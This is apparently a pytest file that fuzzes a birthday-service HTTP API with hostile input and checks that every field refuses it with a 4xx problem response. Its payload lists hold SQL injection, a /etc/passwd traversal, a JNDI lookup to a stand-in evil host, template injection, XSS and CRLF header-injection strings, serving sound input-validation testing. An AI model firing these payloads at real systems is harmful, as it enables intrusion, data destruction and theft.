"""Hostile input in every field of every operation: always a problem of the 4xx kind that names the field."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote, quote_from_bytes

import pytest
from httpx import Response

from natalis.testing.http_api import ADA, Api

JSON = {"Content-Type": "application/json"}
USER_FIELDS = ["firstName", "lastName", "email", "birthdayDate", "timezone", "locale", "leapDay"]
NAMES = {"firstName", "lastName"}
TRAVERSAL = "../../etc/passwd"
INJECTIONS = [
    "Robert'); DROP TABLE users;--",
    '" OR 1=1 --',
    "' UNION SELECT secret FROM tokens --",
    "%00",
    TRAVERSAL,
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
]
CONTROLS = ["a\r\nBcc: all@example.org", "a\nb", "a\x00b", "a\x1b[31mb", "a\u2028b", "a\x85b", "\x7f"]
WRONG_TYPES: list[Any] = [0, -1, 1.5, 10**400, True, [], ["a"], {}, {"a": {"b": []}}]
LONG = "x" * 100_000
RAW = {
    "bad UTF-8": b'"\xff\xfe\xfd"',
    "overlong UTF-8": b'"\xc0\xaf"',
    "surrogate in bytes": b'"\xed\xa0\x80"',
    "lone surrogate": b'"\\ud800"',
    "half a pair": b'"\\udc00\\ud800"',
    "bare line break": b'"a\r\nb"',
    "bare NUL": b'"a\x00b"',
    "deep": b"[" * 50_000 + b"]" * 50_000,
    "huge number": b"9" * 100_000,
    "huge exponent": b"1e400",
}
BIRTHDAYS = [
    "2023-02-29",
    "1900-02-29",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "1899-12-31",
    "2026-06-03",
    "1985-13-01",
    "1985-00-10",
    "1985-12-32",
    "--02-30",
    "-1-01-01",
    "1985-12-10T00:00:00Z",
    "12/10/1985",
    "19851210",
    "1985-W50-2",
    "\u0661\u0669\u0668\u0665-12-10",
    "",
]
ZONES = [
    "Moon/Base",
    "GMT+25",
    "EST5EDT4,M3",
    "/etc/localtime",
    "../UTC",
    "Europe/Par is",
    "+02:00",
    "",
    " ",
    "utc\x00",
]
EMAILS = [
    "",
    "plain",
    "@example.org",
    "a@",
    "a@b@c.example",
    "a b@example.org",
    "a@example.org\r\nBcc: b@example.org",
    "a@example.org,b@example.org",
    "a..b@example.org",
    "a@-example.org",
    "a@example",
    '"quoted"@example.org',
    "a@[127.0.0.1]",
    "x" * 250 + "@example.org",
    "<a@example.org>",
]


def assert_refused(came: Response, field: str) -> None:
    assert 400 <= came.status_code < 500, f"{came.status_code} {came.text[:300]}"
    assert came.headers["content-type"] == "application/problem+json"
    assert field in {fault["field"] for fault in came.json()["errors"]}, came.text[:500]
    assert all(fault["problem"] and fault["remedy"] for fault in came.json()["errors"])
    assert len(came.content) < 10_000


def body_with(field: str, raw: bytes) -> bytes:
    members = [f"{json.dumps(name)}: {json.dumps(value)}".encode() for name, value in ADA.items() if name != field]
    return b"{" + b", ".join([*members, f'"{field}": '.encode() + raw]) + b"}"


@pytest.fixture(params=["POST", "PUT", "PATCH"])
async def user_request(request: pytest.FixtureRequest, api: Api) -> tuple[str, str]:
    """Every operation that takes the fields of a user."""
    method: str = request.param
    if method == "POST":
        return method, "/user"
    return method, f"/user/{(await api.add(email='known@example.org'))['id']}"


@pytest.mark.parametrize("field", USER_FIELDS)
async def test_what_json_or_unicode_cannot_be_is_found_in_its_field(
    api: Api, user_request: tuple[str, str], field: str
) -> None:
    for raw in RAW.values():
        assert_refused(await api.client.request(*user_request, content=body_with(field, raw), headers=JSON), field)


@pytest.mark.parametrize("field", USER_FIELDS)
async def test_a_value_of_a_wrong_type_is_found_in_its_field(
    api: Api, user_request: tuple[str, str], field: str
) -> None:
    for value in WRONG_TYPES:
        came = await api.client.request(
            *user_request, content=body_with(field, json.dumps(value).encode()), headers=JSON
        )
        assert_refused(came, field)


@pytest.mark.parametrize("field", USER_FIELDS)
async def test_control_characters_and_endless_texts_are_refused(
    api: Api, user_request: tuple[str, str], field: str
) -> None:
    for value in [*CONTROLS, LONG]:
        assert_refused(await api.client.request(*user_request, json=ADA | {field: value}), field)


@pytest.mark.parametrize("field", USER_FIELDS)
async def test_sql_and_html_are_refused_in_every_field(api: Api, user_request: tuple[str, str], field: str) -> None:
    for value in INJECTIONS:
        if field in NAMES and value is TRAVERSAL:
            continue  # a name may hold a slash, `a/l Kumar`, and none ever becomes a path
        assert_refused(await api.client.request(*user_request, json=ADA | {field: value}), field)


@pytest.mark.parametrize(
    "value", ["O'Neil", 'Henry "Hank"', "a/l Kumar", "Núñez & Söhne", "Smith-Jones, Jr.", "(née X)", TRAVERSAL]
)
@pytest.mark.parametrize("field", sorted(NAMES))
async def test_what_is_odd_in_a_name_is_letters_like_any_other(api: Api, field: str, value: str) -> None:
    user = await api.add(**{field: value})

    found = await api.client.get(f"/user/{user['id']}")

    assert found.json()[field] == value
    assert found.headers["content-type"] == "application/json"
    assert len((await api.client.get("/user")).json()["items"]) == 1


@pytest.mark.parametrize("name", ["birthdayDate", "birthday"])
async def test_a_birthday_that_nobody_can_have_is_refused(api: Api, user_request: tuple[str, str], name: str) -> None:
    rest = {key: other for key, other in ADA.items() if key != "birthdayDate"}

    for value in BIRTHDAYS:
        assert_refused(await api.client.request(*user_request, json=rest | {name: value}), name)


@pytest.mark.parametrize("name", ["timezone", "location"])
async def test_a_zone_that_is_not_known_is_refused(api: Api, user_request: tuple[str, str], name: str) -> None:
    rest = {key: other for key, other in ADA.items() if key != "timezone"}

    for value in ZONES:
        assert_refused(await api.client.request(*user_request, json=rest | {name: value}), name)


async def test_an_address_that_is_none_is_refused(api: Api, user_request: tuple[str, str]) -> None:
    for value in EMAILS:
        assert_refused(await api.client.request(*user_request, json=ADA | {"email": value}), "email")


@pytest.mark.parametrize("field", USER_FIELDS)
async def test_a_field_that_comes_twice_is_refused(api: Api, user_request: tuple[str, str], field: str) -> None:
    body = json.dumps(ADA | {"locale": "en", "leapDay": "omit"})[:-1] + f', "{field}": "Ada"}}'

    assert_refused(await api.client.request(*user_request, content=body, headers=JSON), field)


async def test_a_field_that_is_not_known_is_refused(api: Api, user_request: tuple[str, str]) -> None:
    for name in ["id", "version", "__proto__", "constructor", "", "a" * 1000, "\u202efirstName", "\x00"]:
        came = await api.client.request(*user_request, json=ADA | {name: "x"})
        assert_refused(came, name if len(name) <= 200 else name[:199] + "…")


@pytest.mark.parametrize("field", ["date", "leapDay"])
async def test_a_yearly_date_is_held_to_the_same(api: Api, field: str) -> None:
    path = f"/user/{(await api.add())['id']}/occasions/anniversary"
    rest = b'{"date": "2011-06-04", ' if field != "date" else b"{"

    for raw in [*RAW.values(), *(json.dumps(value).encode() for value in [*CONTROLS, *INJECTIONS, LONG])]:
        came = await api.client.put(path, content=rest + f'"{field}": '.encode() + raw + b"}", headers=JSON)
        assert_refused(came, field)


@pytest.mark.parametrize(
    ("method", "path", "field"),
    [
        ("PUT", "/suppressions", "email"),
        ("PUT", "/suppressions", "reason"),
        ("POST", "/feedback/x", "rating"),
    ],
)
async def test_the_other_bodies_are_held_to_the_same(api: Api, method: str, path: str, field: str) -> None:
    rest = b'{"email": "a@b.example", ' if field == "reason" else b"{"
    hostile = [json.dumps(value).encode() for value in [*CONTROLS, *INJECTIONS, LONG, [], {}, -1]]

    for raw in [*RAW.values(), *hostile]:
        content = rest + f'"{field}": '.encode() + raw + b"}"
        came = await api.client.request(method, path, content=content, headers=JSON)
        # the feedback link is judged with the rating it brings
        assert_refused(came, "token" if raw == b"-1" and field == "rating" else field)


@pytest.mark.parametrize(
    ("path", "fields"),
    [
        ("/user?", ["email", "limit", "cursor"]),
        ("/deliveries?", ["status", "from", "to", "limit", "cursor"]),
        ("/upcoming?", ["days", "timezone", "limit", "cursor"]),
        ("/forecast?", ["date"]),
        ("/forecast?date=2026-12-10&", ["limit"]),
        ("/suppressions?", ["limit", "cursor"]),
        ("/user/x/ledger?", ["year"]),
    ],
)
async def test_every_parameter_of_every_list_is_held_to_the_same(api: Api, path: str, fields: list[str]) -> None:
    hostile = [quote(value) for value in [*CONTROLS, *INJECTIONS, "-1", "", "1e400", "9" * 5000, "x" * 5000]]

    for field in fields:
        for value in [*hostile, "%ff", "%ed%a0%80"]:
            assert_refused(await api.client.get(f"{path}{field}={value}"), field)


@pytest.mark.parametrize("field", ["kind", "userId"])
async def test_a_filter_that_fits_nothing_finds_nothing_or_is_refused(api: Api, field: str) -> None:
    await api.add()
    await api.plan()

    for value in INJECTIONS:
        came = await api.client.get("/deliveries", params={field: value})
        assert came.status_code in {200, 422}
        assert came.status_code == 422 or came.json()["items"] == []


@pytest.mark.parametrize(
    "value", [*(value.encode() for value in [*CONTROLS, *INJECTIONS, LONG[:10_000]]), b"\xff", b"\xed\xa0\x80"]
)
async def test_an_id_in_a_path_that_nobody_has_is_never_more_than_not_found(api: Api, value: bytes) -> None:
    text = quote_from_bytes(value, safe="")

    for method, path in [
        ("GET", f"/user/{text}"),
        ("DELETE", f"/user/{text}"),
        ("GET", f"/user/{text}/ledger"),
        ("DELETE", f"/user/{text}/occasions/anniversary"),
        ("DELETE", f"/user/x/occasions/{text}"),
        ("GET", f"/deliveries/{text}"),
        ("POST", f"/deliveries/{text}/retry"),
        ("POST", f"/deliveries/{text}/cancel"),
        ("POST", f"/unsubscribe/{text}"),
    ]:
        came = await api.client.request(method, path)
        assert came.status_code in {404, 422}, f"{method} {path[:80]} {came.status_code}"
        assert came.headers["content-type"] == "application/problem+json"
        assert len(came.content) < 10_000
